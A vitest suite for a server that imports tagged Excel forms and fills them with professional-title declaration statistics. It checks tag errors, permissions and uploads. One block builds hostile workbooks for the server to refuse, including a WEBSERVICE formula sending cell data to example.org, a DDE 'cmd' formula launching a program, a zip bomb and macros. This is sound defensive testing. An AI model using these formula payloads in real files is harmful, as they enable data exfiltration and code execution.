import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import ExcelJS from 'exceljs'
import type { App } from '../../server/app'
import { standardLimits } from '../../server/http/limit'
import { partsOf, sheetOf, textCell } from '../reader/workbook'
import { zipOf } from '../reader/zip'
import { packageOf, partsOf as packageParts } from '../support/package'
import { startTestApp } from '../support/app'
import { signedIn, type TestClient } from '../support/client'
import { letterOf } from '../../schema/column-letter'
import * as habit from './habit'
import { bytesOf, openBook } from './package'

let app: App
let bureau: TestClient
let yiwu: TestClient
let leader: TestClient

beforeAll(async () => {
  const rate = { ...standardLimits.rate, import: { max: 10_000, seconds: 60 }, export: { max: 10_000, seconds: 60 } }
  app = await startTestApp({ data: 'sample', config: { limits: { ...standardLimits, rate } } })
  bureau = await signedIn(app, 'bureau')
  yiwu = await signedIn(app, 'yiwu')
  leader = await signedIn(app, 'leader')
})
afterAll(() => app.stop())

let serial = 0

const send = (client: TestClient, bytes: Buffer, name = `表${(serial += 1)}`) =>
  client.fetch(`/forms?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream' },
    body: new Uint8Array(bytes),
  })

interface Refused {
  error: { code: string; message: string }
}

async function refusal(bytes: Buffer): Promise<Refused['error']> {
  const response = await send(bureau, bytes)
  expect(response.status).toBeGreaterThanOrEqual(400)
  expect(response.status).toBeLessThan(500)
  return ((await response.json()) as Refused).error
}

async function keep(bytes: Buffer, client = bureau, name?: string): Promise<string> {
  const response = await send(client, bytes, name)
  expect(response.status).toBe(201)
  return ((await response.json()) as { id: string }).id
}

async function tagged(cells: Record<string, ExcelJS.CellValue>): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('表1')
  for (const [address, value] of Object.entries(cells)) sheet.getCell(address).value = value
  return bytesOf(workbook)
}

/** A merged range is written by hand: ExcelJS makes every cell of it. */
async function withMerge(bytes: Buffer, range: string): Promise<Buffer> {
  const parts = await packageParts(bytes)
  const name = 'xl/worksheets/sheet1.xml'
  const merges = `</sheetData><mergeCells count="1"><mergeCell ref="${range}"/></mergeCells>`
  const xml = parts.get(name)!.toString().replace('</sheetData>', merges)
  return packageOf(new Map<string, Buffer | string>([...parts, [name, xml]]))
}

describe('a tag that isn’t understood is refused with its cell', () => {
  test('every unknown word is named', async () => {
    const { code, message } = await refusal(
      await tagged({ B2: '{{参评;系列=农叶}}', C7: '{{参加}}', D9: '{{参评;门类=农业}}', E1: '{{参评}}' }),
    )
    expect(code).toBe('FORM_TAG_UNKNOWN')
    expect(message.split('\n')).toEqual([
      '“表1”的 B2：“农叶”不是系列的值。',
      '“表1”的 C7：“参加”不是指标，也不是任何字段的值。',
      '“表1”的 D9：“门类”不是字段。',
    ])
  })

  test.each([
    ['{{市直;申报}}', 'FORM_TAG_UNKNOWN', '“市直”可能是隶属关系或区县'],
    ['{{系列=农业}}', 'FORM_TAG_INVALID', '没有指标'],
    ['{{申报;级别=高级;级别=中级}}', 'FORM_TAG_INVALID', '写了不止一次'],
    ['{{通过率;逾期}}', 'FORM_TAG_INVALID', '只能有一个比率'],
    ['{{参评人数;申报人数}}', 'FORM_TAG_INVALID', '只能有一个人数'],
    ['{{申报;截至=2月30日}}', 'FORM_TAG_INVALID', '不是日期'],
    ['{{申报;年度=去年}}', 'FORM_TAG_INVALID', '看不懂'],
    ['{{列表:天气}}', 'FORM_TAG_UNKNOWN', '列表后面'],
    ['{{列表:系列;申报}}', 'FORM_TAG_INVALID', '不写指标'],
    ['{{行:级别=高级}}{{列:申报}}', 'FORM_TAG_INVALID', '一格里只能有一个'],
    ['{{申报;查找=张三}}', 'FORM_TAG_UNKNOWN', '“查找”不是字段'],
    ['{{申报;族别=火星}}', 'FORM_TAG_UNKNOWN', '“火星”不是'],
    ['{{申报;工作单位编号=abc}}', 'FORM_TAG_UNKNOWN', '“abc”不是'],
    ['{{申报', 'FORM_TAG_INVALID', '花括号不成对'],
    ['申报}}', 'FORM_TAG_INVALID', '花括号不成对'],
    ['{{{申报}}}', 'FORM_TAG_INVALID', '花括号不成对'],
    ['｛｛申报}', 'FORM_TAG_INVALID', '花括号不成对'],
    [`{{申报;系列=${'农'.repeat(600)}}}`, 'FORM_TAG_INVALID', '超过 500 字'],
  ])('%s', async (text, code, part) => {
    const refused = await refusal(await tagged({ C3: text }))
    expect(refused.code).toBe(code)
    expect(refused.message).toContain('“表1”的 C3：')
    expect(refused.message).toContain(part)
  })

  async function fill(bytes: Buffer, query = 'year=2026') {
    const response = await bureau.fetch(`/forms/${await keep(bytes)}/filled.xlsx?${query}`)
    return { status: response.status, ...((await response.json()) as Refused).error }
  }

  test.each([
    ['{{申报;年度=2019}}', 'year=2026', '没有2019年度'],
    ['{{申报;上年}}', 'year=2023', '没有2022年度'],
    ['{{申报;截至=12月31日}}', 'year=2026', '截止日 2026-12-31 还没有到'],
    ['{{申报;截至=2月29日}}', 'year=2026', '没有 2026-02-29 这一天'],
    ['{{列表:系列;年度=2019}}', 'year=2026', '没有2019年度'],
  ])('a year or day of which nothing is known, when the form is filled: %s', async (text, query, part) => {
    const refused = await fill(await tagged({ A1: '申报', D4: text }), query)
    expect(refused).toMatchObject({ status: 400, code: 'FORM_TAG_INVALID' })
    expect(refused.message).toContain('“表1”的 D4：')
    expect(refused.message).toContain(part)
  })

  test.each([
    ['{{申报;主管部门=市水务局}}', '没有一件申报的主管部门是“市水务局”'],
    ['{{申报;专业=火箭、水利}}', '没有一件申报的申报专业是“火箭”'],
    ['{{行:工作单位编号=999999999}}', '没有一件申报的单位是“999999999”'],
  ])('a value that no declaration has, when the form is filled: %s', async (text, part) => {
    const refused = await fill(await tagged({ A1: '{{申报}}', D4: text }))
    expect(refused).toMatchObject({ status: 400, code: 'FORM_TAG_UNKNOWN' })
    expect(refused.message).toContain('“表1”的 D4：')
    expect(refused.message).toContain(part)
  })

  test('for an account that sees a part, such a value counts 0: it may be elsewhere', async () => {
    const id = await keep(await tagged({ A1: '{{申报;主管部门=市水务局}}' }), yiwu)
    expect((await yiwu.fetch(`/forms/${id}/filled.xlsx?year=2026`)).status).toBe(200)
  })

  test('an ethnic group has its name with and without 族', async () => {
    const id = await keep(await tagged({ A1: '{{申报;族别=汉}}', A2: '{{申报;族别=汉族}}' }))
    const { formFigures } = await bureau.get<{ formFigures: { value: string }[] }>(
      `{ formFigures(id: "${id}", filter: { year: [2026] }) { value } }`,
    )
    expect(Number(formFigures[0]!.value)).toBeGreaterThan(0)
    expect(formFigures[1]).toEqual(formFigures[0])
  })

  test.each([21_005, 1_048_576])('a head over %i rows is more than a form has', async (last) => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('表1')
    sheet.getCell('B1').value = '{{列:申报}}'
    sheet.getCell('A2').value = '{{行:系列=农业}}'
    const bytes = withMerge(await bytesOf(workbook), `A2:A${last}`)
    expect(await fill(await bytes)).toMatchObject({
      status: 400,
      code: 'FORM_TAG_INVALID',
      message: '“表1”的 A2：一张表最多填 20000 格。',
    })
  })

  test('more crossings than a form has are refused at the first one too many', async () => {
    const heads = Array.from({ length: 150 }, (_, at) => at)
    const cells = [
      ...heads.map((at) => [`A${at + 2}`, '{{行:系列=农业}}'] as const),
      ...heads.map((at) => [`${letterOf(at + 2)}1`, '{{列:申报}}'] as const),
    ]
    expect(await fill(await tagged(Object.fromEntries(cells)))).toMatchObject({
      status: 400,
      message: expect.stringMatching(/：一张表最多填 20000 格。$/),
    })
  })

  test('a figure of which the page’s filter leaves nothing opens nothing', async () => {
    const id = await keep(await tagged({ A1: '{{申报;区县=伊州区}}', A3: '{{申报}}' }))
    const { formFigures } = await bureau.get<{
      formFigures: { value: string; meaning: string; query: string | null }[]
    }>(`{ formFigures(id: "${id}", filter: { year: [2026], county: ["650521"] }) { value meaning query } }`)
    const [first, all] = formFigures
    expect(first).toEqual({ value: '0', meaning: '2026 年度申报；区县：巴里坤县，其中没有标记所要的', query: null })
    expect(Number(all!.value)).toBeGreaterThan(0)
    expect(all!.query).toContain('county=')
  })

  test('what only the crossing shows is refused when the form is filled', async () => {
    expect(await fill(await tagged({ B1: '{{列:级别=高级}}', A2: '{{行:级别=中级}}' }))).toMatchObject({
      status: 400,
      code: 'FORM_TAG_INVALID',
      message: '“表1”的 B2：行和列的标记写了同一个条件，请只留一处。',
    })
    expect(await fill(await tagged({ B1: '{{列:级别=高级}}', A2: '{{行:农业}}' }))).toMatchObject({
      code: 'FORM_TAG_INVALID',
      message: '“表1”的 B2：行和列的标记都没有指标。',
    })
    expect(await fill(await tagged({ A2: '{{列表:系列}}', A6: '合计' }))).toMatchObject({
      code: 'FORM_TAG_INVALID',
      message: '“表1”的 A2：列表有 17 项，从这一格往下只有 4 个空行，放不下。',
    })
    expect(await fill(await tagged({ A2: '{{申报;工作单位=没有这个单位}}' }))).toMatchObject({
      code: 'FORM_TAG_UNKNOWN',
      message: '“表1”的 A2：没有叫“没有这个单位”的工作单位。',
    })
    const good = await tagged({ A1: '{{申报;上年}}' })
    expect(await fill(good, '')).toMatchObject({ status: 400, code: 'INVALID_INPUT' })
    expect(await fill(good, 'year=2025,2026')).toMatchObject({ code: 'INVALID_INPUT' })
    expect(await fill(good, 'year=1999')).toMatchObject({ code: 'CYCLE_UNKNOWN' })
    expect(await fill(good, 'year=2026&sources=maybe')).toMatchObject({ code: 'INVALID_INPUT' })
    expect(await fill(good, 'year=2026&asOf=2027-01-01')).toMatchObject({ code: 'INVALID_INPUT' })
    expect(await fill(await tagged({ A1: '没有标记' }))).toMatchObject({ status: 409, code: 'FORM_NO_TAG' })
    expect((await bureau.fetch('/forms/999999/filled.xlsx?year=2026')).status).toBe(404)
    expect((await bureau.fetch('/forms/x%00/filled.xlsx?year=2026')).status).toBe(404)
  })
})

describe('hostile and unsuitable packages', () => {
  const plain = () => partsOf({ sheets: [{ data: `<row r="1">${textCell('A1', '{{申报}}')}</row>` }] })
  const relation = (mode: string, kind: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://example.org/x" TargetMode="${mode}"/></Relationships>`
  const sheetRelations = 'xl/worksheets/_rels/sheet1.xml.rels'

  test.each([
    [
      'a link to another workbook',
      zipOf([...plain(), { name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }]),
      'FORM_EXTERNAL',
    ],
    ['a data connection', zipOf([...plain(), { name: 'xl/connections.xml', content: '<a/>' }]), 'FORM_EXTERNAL'],
    [
      'a picture from the network',
      zipOf([...plain(), { name: sheetRelations, content: relation('External', 'image') }]),
      'FORM_EXTERNAL',
    ],
    [
      'a formula that asks the network',
      sheetOf('<row r="1"><c r="A1"><f>WEBSERVICE("https://example.org/"&amp;B1)</f></c></row>'),
      'FORM_EXTERNAL',
    ],
    [
      'a formula that starts a program',
      sheetOf(`<row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f></c></row>`),
      'FORM_EXTERNAL',
    ],
    ['an ID number', sheetOf(`<row r="3">${textCell('B3', '900000199001011239')}</row>`), 'FORM_PERSONAL'],
    ['macros', zipOf([...plain(), { name: 'xl/vbaProject.bin', content: 'x' }]), 'IMPORT_MACRO'],
    ['an encrypted part', zipOf(plain().map((part) => ({ ...part, flags: 1 }))), 'IMPORT_ENCRYPTED'],
    [
      'a DOCTYPE',
      zipOf(
        plain().map((part) =>
          part.name.endsWith('sheet1.xml')
            ? { ...part, content: `<!DOCTYPE a []>${String(part.content).replace(/<\?.*\?>\n/, '')}` }
            : part,
        ),
      ),
      'IMPORT_DOCTYPE',
    ],
    [
      'a bomb',
      zipOf([...plain(), { name: 'xl/media/a.bin', content: Buffer.alloc(60 * 1024 * 1024) }]),
      'IMPORT_INFLATES',
    ],
    [
      'a sheet that is too large',
      zipOf([
        ...plain().filter(({ name }) => !name.endsWith('sheet1.xml')),
        {
          name: 'xl/worksheets/sheet1.xml',
          content: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${' '.repeat(9 * 1024 * 1024)}</sheetData></worksheet>`,
          stored: false,
        },
      ]),
      'FORM_TOO_LARGE',
    ],
    ['more than 5 MB', Buffer.alloc(5 * 1024 * 1024 + 10, 'PK'), 'FORM_TOO_LARGE'],
    ['no workbook', Buffer.from('姓名,级别\n张三,高级\n'), 'IMPORT_NOT_XLSX'],
    ['nothing', Buffer.alloc(0), 'IMPORT_EMPTY'],
    ['half a file', sheetOf('<row/>').subarray(0, 500), 'IMPORT_TRUNCATED'],
  ])('%s is refused', async (_, bytes, code) => {
    expect((await refusal(bytes)).code).toBe(code)
  })

  test('a hyperlink does nothing by itself and stays', async () => {
    await keep(zipOf([...plain(), { name: sheetRelations, content: relation('External', 'hyperlink') }]))
  })
})

describe('keeping forms', () => {
  const list = async (client: TestClient) =>
    (
      await client.get<{
        forms: { id: string; name: string; shared: boolean; editable: boolean; version: number; tagged: number }[]
      }>('{ forms { id name shared editable version tagged } }')
    ).forms
  const save = `mutation ($id: ID!, $version: Int!, $name: String!, $tags: [FormTagInput!]!, $typed: [FormTypedInput!]!) {
    saveForm(id: $id, version: $version, name: $name, tags: $tags, typed: $typed) { version name tagged } }`
  const remove = 'mutation ($id: ID!) { deleteForm(id: $id) { id } }'

  test('a form of the bureau is filled by everybody and changed by the bureau; one of a county is its own', async () => {
    const shared = await keep(await habit.letter(), bureau, '共用')
    const own = await keep(await habit.letter(), yiwu, '伊吾自用')
    expect((await list(yiwu)).find(({ id }) => id === shared)).toMatchObject({ shared: true, editable: false })
    expect((await list(yiwu)).find(({ id }) => id === own)).toMatchObject({ shared: false, editable: true })
    expect((await list(bureau)).some(({ id }) => id === own)).toBe(false)
    expect((await list(leader)).find(({ id }) => id === shared)).toMatchObject({ editable: true })
    const change = { id: shared, version: 1, name: '改名', tags: [], typed: [] }
    expect((await yiwu.ask(save, change)).errors?.[0]?.extensions.code).toMatch(/FORM_MEANWHILE|NOT_FOUND/)
    expect((await yiwu.ask(remove, { id: shared })).errors?.[0]?.extensions.code).toBe('NOT_FOUND')
    expect((await bureau.ask(remove, { id: own })).errors?.[0]?.extensions.code).toBe('NOT_FOUND')
    expect((await bureau.fetch(`/forms/${own}/filled.xlsx?year=2026`)).status).toBe(404)
    expect((await send(bureau, await habit.letter(), '共用')).status).toBe(409)
    expect(await yiwu.get(remove, { id: own })).toEqual({ deleteForm: { id: own } })
    expect((await list(yiwu)).some(({ id }) => id === own)).toBe(false)
  })

  test('cells are tagged on the page; what is typed is kept and written', async () => {
    const id = await keep(await tagged({ A1: '专业', A2: '农业', B1: '申报', C1: '核准职数' }))
    const tags = [
      { sheet: '表1', cell: 'A2', text: '{{行:系列=农业}}' },
      { sheet: '表1', cell: 'B1', text: '{{列:申报}}' },
      { sheet: '表1', cell: 'C1', text: '{{列:填:核准职数}}' },
      { sheet: '表1', cell: 'D9', text: '{{填:说明}}' },
    ]
    const typed = [
      { key: '表1!C2', value: '12' },
      { key: '表1!D9', value: '=1+1' },
    ]
    expect(await bureau.get(save, { id, version: 1, name: '点选', tags, typed })).toEqual({
      saveForm: { version: 2, name: '点选', tagged: 4 },
    })
    const stale = await bureau.ask(save, { id, version: 1, name: '点选', tags, typed })
    expect(stale.errors?.[0]?.extensions.code).toBe('FORM_MEANWHILE')
    const wrong = await bureau.ask(save, {
      id,
      version: 2,
      name: '点选',
      typed,
      tags: [{ sheet: '表1', cell: 'B2', text: '{{农叶}}' }],
    })
    expect(wrong.errors?.[0]).toMatchObject({ extensions: { code: 'FORM_TAG_UNKNOWN' } })
    for (const query of ['year=2026', 'year=2025']) {
      const response = await bureau.fetch(`/forms/${id}/filled.xlsx?${query}`)
      const book = await openBook(Buffer.from(await response.arrayBuffer()))
      const [sheet, sources] = book.worksheets
      expect(['A1', 'A2', 'B1', 'C1'].map((address) => sheet!.getCell(address).value)).toEqual([
        '专业',
        '农业',
        '申报',
        '核准职数',
      ])
      expect(sheet!.getCell('B2').value).toBeGreaterThan(0)
      expect(sheet!.getCell('C2').value).toBe(12)
      // Written as text, whatever it looks like.
      expect(sheet!.getCell('D9').value).toBe(`'=1+1`)
      expect(sources!.name).toBe('取数说明')
      const line = [1, 2, 3, 4].map((column) => sources!.getCell(5, column).value)
      expect(line).toEqual(['表1', 'B2', expect.stringContaining('系列：农业'), sheet!.getCell('B2').value])
      expect(sources!.getCell('E5').hyperlink).toContain('/declarations?year=20')
    }
  })
})

describe('a form that a browser sends by itself (multipart)', () => {
  const post = async (body: FormData) => bureau.fetch('/forms', { method: 'POST', body })

  test('is kept as one that is the whole body, under the name beside it or its file’s', async () => {
    const bytes = new Uint8Array(await tagged({ A1: '{{申报}}' }))
    const body = new FormData()
    body.append('name', '自治区统计表')
    body.append('file', new File([bytes], '上级.xlsx'))
    const response = await post(body)
    expect(response.status).toBe(201)
    const { id } = (await response.json()) as { id: string }
    const { form } = await bureau.get<{ form: { form: { name: string; fileName: string; tagged: number } } }>(
      'query ($id: ID!) { form(id: $id) { form { name fileName tagged } } }',
      { id },
    )
    expect(form.form).toEqual({ name: '自治区统计表', fileName: '上级.xlsx', tagged: 1 })
  })

  test.each([
    ['without a file', () => Object.assign(new FormData(), {}), undefined],
    [
      'cut off',
      () => '--x\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK',
      'multipart/form-data; boundary=x',
    ],
    ['without a boundary', () => 'x', 'multipart/form-data'],
  ])('%s is refused', async (_, body, type) => {
    const headers = type === undefined ? {} : { 'content-type': type }
    const response = await bureau.fetch('/forms', { method: 'POST', headers, body: body() })
    expect([response.status, ((await response.json()) as Refused).error.code]).toEqual([400, 'INVALID_INPUT'])
  })
})
